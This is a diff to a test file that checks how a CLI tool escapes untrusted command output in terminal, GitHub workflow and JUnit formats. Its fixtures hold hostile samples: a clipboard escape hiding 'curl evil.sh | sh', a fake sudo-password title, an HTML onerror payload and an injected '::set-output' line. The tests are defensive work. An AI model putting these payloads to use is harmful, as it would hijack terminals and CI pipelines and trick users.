@@ -2,6 +2,8 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { makeSandbox, runCordon, type Sandbox } from '../../../../test/support/cli.js';
 import { markdownCell, markdownText } from '../../src/output/markdown.js';
 import { displayName, terminalLines, terminalText } from '../../src/output/terminal.js';
+import { workflowCommand } from '../../src/envelope/formats/github.js';
+import { xmlText } from '../../src/envelope/formats/junit.js';
 import { call, samples } from '../telemetry/reduce/helpers.js';
 
 // Issue 29: a model-controlled command reaches `cordon reduce` and `cordon analyze` (text and
@@ -23,6 +25,15 @@ const MARKUP = ['echo <img src=x onerror=alert(1)>', 'echo [click](https://evil.
 const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
 
 describe('the terminal escaping', () => {
+  it('a GitHub workflow command stays one line (no injected command); JUnit XML holds no control a parser refuses', () => {
+    for (const output of Object.values(HOSTILE)) {
+      const line = workflowCommand('error', { title: 'cordon: verifier_failed' }, `verifier failed\n${output}\r\n::set-output name=x::y`);
+      expect(line.split(/[\r\n]/)).toHaveLength(1);
+      expect(line).not.toContain('\n::');
+      expect(xmlText(output)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
+    }
+  });
+
   it('escapes every control, keeps ordinary text and line breaks of whole reports', () => {
     expect(terminalText(HOSTILE.clipboard)).toBe("printf 'x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
     expect(terminalText(HOSTILE.title)).toBe("echo '\\u001b]0;sudo password:\\u0007'");
@@ -31,6 +42,7 @@ describe('the terminal escaping', () => {
     expect(terminalText('report\u202etxt.exe')).toBe('report\\u202etxt.exe');
     expect(terminalText('npm test -- --grep "a b"')).toBe('npm test -- --grep "a b"');
     expect(terminalLines('one\n\u001b[2Jtwo\r\nthree')).toBe('one\n\\u001b[2Jtwo\nthree');
+    expect(terminalLines('FAIL\ttest_a\u0007\rover')).toBe('FAIL\ttest_a\\u0007\\u000dover');
     expect(displayName('a"b')).toBe('"a\\"b"');
     expect(displayName('plain')).toBe('plain');
   });
